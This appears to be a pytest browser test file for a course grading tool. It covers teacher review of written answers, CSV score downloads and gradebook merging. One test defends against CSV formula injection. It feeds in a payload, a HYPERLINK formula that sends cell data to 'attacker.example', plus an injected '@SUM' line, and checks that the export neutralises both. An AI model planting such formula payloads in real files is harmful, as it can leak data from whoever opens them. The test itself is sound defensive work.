"""A teacher's whole loop for written answers, in a real browser: grade, review, merge."""

from __future__ import annotations

import csv
import json

import pytest

from coursekit.cli.app import main
from coursekit.exporters import Batch
from coursekit.exporters.review import write_review
from coursekit.grading.results import ExerciseGrade, SubmissionGrade
from coursekit.grading.reviews import read_reviews
from coursekit.running.notebooks import write

from .conftest import lesson_notebook
from .test_browser import _shot, chromium  # noqa: F401 (the fixture)

pytestmark = [pytest.mark.browser, pytest.mark.slow]

ANSWERS = {
    "alice": "Of all 405 employees, 88.9 percent are Uyghur and other ethnic minority staff; "
             "the article's 90 percent is this share rounded.",
    "bob": "88.9 percent of the company's 405 employees.",
    "chen": "About 89 percentage points of them.",
    "dana": "Most of the workers.",
    "émile": "Of its 405 staff, 88.9 percent; the 90 percent in the article is rounded up.",
}


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory):
    """Five submissions of lesson 02 with different written answers, graded to JSON."""
    where = tmp_path_factory.mktemp("written")
    (where / "class").mkdir()
    for learner, text in ANSWERS.items():
        notebook = lesson_notebook("02_percentages.ipynb")
        for cell in notebook.cells:
            if cell.get("metadata", {}).get("coursekit", {}).get("answer") == "share_in_words":
                cell.source = text
        write(notebook, where / "class" / f"{learner}.ipynb")
    results = where / "results.json"
    assert main(["grade", str(where / "class"), "--export", f"json:{results}", "--jobs",
                 "2"]) == 0
    return where, results


def q9(results, learner):
    document = json.loads(results.read_text(encoding="utf-8"))
    submission = next(s for s in document["submissions"] if f"/{learner}.ipynb" in s["path"])
    return next(e for e in submission["exercises"] if e["id"] == "q9")


def test_grade_review_in_the_browser_and_merge(graded_class, chromium):  # noqa: F811
    where, results = graded_class
    assert {q9(results, name)["status"] for name in ANSWERS} == {"needs_review"}
    assert q9(results, "bob")["points"] == 2 and q9(results, "chen")["points"] == 0
    page_file = where / "review.html"
    assert main(["review", str(results), "--html", str(page_file)]) == 0

    page = chromium.new_page(accept_downloads=True)
    errors = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(page_file.as_uri())
    assert page.locator("article").count() == len(ANSWERS)
    alice = page.locator("article[data-learner='alice']")
    alice.locator("input.criterion").fill("1")
    alice.locator("textarea.comment").fill("Clear, and you named the rounding.")
    bob = page.locator("article[data-learner='bob']")
    bob.locator("input.criterion").fill("0.5")
    page.reload()  # what was typed is kept in the browser
    assert page.locator("article[data-learner='alice'] input.criterion").input_value() == "1"
    _shot(page, "review-page")
    with page.expect_download() as download:
        page.get_by_role("button", name="Download scores (CSV)").click()
    scores = where / "scores.csv"
    download.value.save_as(scores)
    page.close()
    assert not errors

    rows = list(csv.DictReader(scores.open(encoding="utf-8")))
    assert [(r["learner"], r["teacher_points"]) for r in rows] == [("alice", "1"), ("bob", "0.5")]
    gradebook = where / "grades.csv"
    assert main(["export", str(results), "--reviews", str(scores), "--export",
                 f"csv:{gradebook}"]) == 0
    table = {r["learner"]: r for r in csv.DictReader(gradebook.open(encoding="utf-8-sig"))}
    assert table["alice"]["q9"] == "3" and table["bob"]["q9"] == "2.5"
    assert table["chen"]["q9"] == "0"


def test_the_scores_csv_is_safe_to_open_and_reads_back_as_typed(tmp_path, chromium):  # noqa: F811
    """The page's CSV: a learner's name or a comment a spreadsheet would run gets a quote
    before it; a carriage return is quoted as a line feed is; ``--reviews`` reads the
    values back as they were."""
    hostile = '=HYPERLINK("attacker.example?"&A1,"open")'
    waiting = ExerciseGrade("q9", "needs_review", 2, 3, "\u270e the teacher's part")
    grades = [SubmissionGrade(f"class/{hostile}.ipynb", "02_percentages", "graded", None, 2,
                              11, [waiting], written_answers={"q9": "88.9 percent"})]
    page_file = tmp_path / "review.html"
    write_review(Batch(grades, lesson_ids=frozenset({"02_percentages"})), page_file)
    page = chromium.new_page(accept_downloads=True)
    page.goto(page_file.as_uri())
    # HTML reads a carriage return in the page as a line feed; a script can still add one
    page.evaluate("document.querySelector('article').dataset.learner += '\\r@SUM(1)';"
                  "document.querySelector('article').dataset.lesson += '\\rx'")
    page.locator("article textarea.comment").fill("-1 for rounding\nsee the key")
    page.locator("article input.criterion").fill("1")
    with page.expect_download() as download:
        page.get_by_role("button", name="Download scores (CSV)").click()
    download.value.save_as(tmp_path / "scores.csv")
    page.close()
    raw = (tmp_path / "scores.csv").read_bytes().decode("utf-8")
    learner = hostile + "\r@SUM(1)"
    assert '"\'' + learner.replace('"', '""') + '"' in raw
    assert "\"'-1 for rounding\n" in raw and ',"02_percentages\rx",' in raw
    with open(tmp_path / "scores.csv", encoding="utf-8", newline="") as stream:
        assert len(list(csv.reader(stream))) == 2  # the header and one row
    review = read_reviews(tmp_path / "scores.csv")[0]
    assert (review.learner, review.lesson, review.teacher_points, review.comment) == (
        learner, "02_percentages\rx", 1.0, "-1 for rounding\nsee the key")
